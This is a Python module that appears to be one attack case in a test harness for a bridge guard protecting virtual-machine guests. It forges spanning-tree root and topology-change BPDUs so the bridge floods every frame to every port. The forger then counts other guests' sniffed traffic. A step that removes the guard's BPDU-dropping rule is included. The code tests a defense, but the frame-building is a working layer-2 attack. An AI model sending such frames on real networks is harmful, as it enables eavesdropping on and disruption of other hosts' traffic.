"""A guest becomes the root of the bridge's spanning tree.

libvirt's networks take part in the protocol by default. One configuration message that says "I am the root, forward after 0 s, the
topology has changed" has the bridge forget at once where everybody is, so that it sends every frame to everybody; a topology change
notification does so for a while. Gained: sight of all traffic, and, where the port is looked up in what the bridge has learned, a 404 for
everybody. In the way: the guard drops these messages (counter `bpdu`), and nothing depends on what the bridge has learned.
"""

import json
import struct
import time

import attack
import rules
import space
import wire
from attack import Outcome
from field import Field
from host import Host

GROUP = wire.mac("01:80:c2:00:00:00")


def _message(me: bytes, body: bytes) -> bytes:
    payload = b"\x42\x42\x03" + body
    return (GROUP + me + struct.pack("!H", len(payload)) + payload).ljust(60, b"\0")


def tree() -> dict[str, object]:
    """What the bridge knows of its spanning tree."""
    return json.loads(space.call("ip", "-j", "-d", "link", "show", "br0"))[0]["linkinfo"]["info_data"]


class Attack(attack.Attack):
    """The forger is root, and says that everything has changed."""

    hosts = ("stp",)
    families = (4,)
    proofs = (("stp", 4),)

    def prepare(self, host: Host) -> None:
        """Waits until the bridge has forgotten its own changes."""
        space.wait_until(lambda: not tree()["topology_change"], "the bridge's tree is at rest", 40)

    def attack(self, field: Field) -> None:
        """Sends both kinds of message, and looks for what is not its own."""
        card, me = wire.Wire(), field.me.link
        identity = b"\0\0" + me
        root = _message(me, struct.pack("!HBBB", 0, 0, 0, 0x81) + identity + struct.pack("!I", 0) + identity + struct.pack(
            "!HHHHH", 0x8001, 0, 20 << 8, 2 << 8, 0))
        rapid = _message(me, struct.pack("!HBBB", 0, 2, 2, 0x7F) + identity + struct.pack("!I", 0) + identity + struct.pack(
            "!HHHHHB", 0x8001, 0, 20 << 8, 2 << 8, 0, 0))
        frames = [root, _message(me, struct.pack("!HBB", 0, 0, 0x80)), rapid, wire.tagged(root, (wire.VLAN, 0))]
        card.send(*frames)
        field.ready()
        seen, next_time = 0, 0.0
        while field.goes_on():
            if time.monotonic() >= next_time:
                next_time = time.monotonic() + 0.2
                card.send(*frames)
            seen += sum(b"USER-DATA" in segment.data and segment.to != me for segment in card.segments(0.05))
        field.report["sniffed"] = seen

    def during(self, host: Host, outcome: Outcome) -> None:
        """Brings the bridge's sweep forward, and looks who its root is."""
        time.sleep(1)
        space.ip("link set br0 type bridge ageing_time 30000")
        data = tree()
        outcome.host_report |= {"root_port": data["root_port"], "changes": data["topology_change"]}

    def gained(self, outcome: Outcome) -> str | None:
        """Another root, or a reply that was sniffed."""
        if sniffed := outcome.forger["sniffed"]:
            return f"the forger sniffed {sniffed} replies"
        seen = outcome.host_report
        if seen["root_port"]:
            return f"the bridge's root is beyond its port {seen['root_port']}"
        return "the bridge believes that its tree has changed" if seen["changes"] else None

    def weaken(self, host: Host) -> None:
        """Lets the messages in."""
        rules.remove(r"counter name \"?bpdu", "netdev")

    def restore(self, host: Host) -> None:
        """Lets the bridge take itself for the root again, where it does not."""
        if tree()["root_port"]:
            space.ip("link set br0 type bridge stp_state 0\nlink set br0 type bridge stp_state 1")
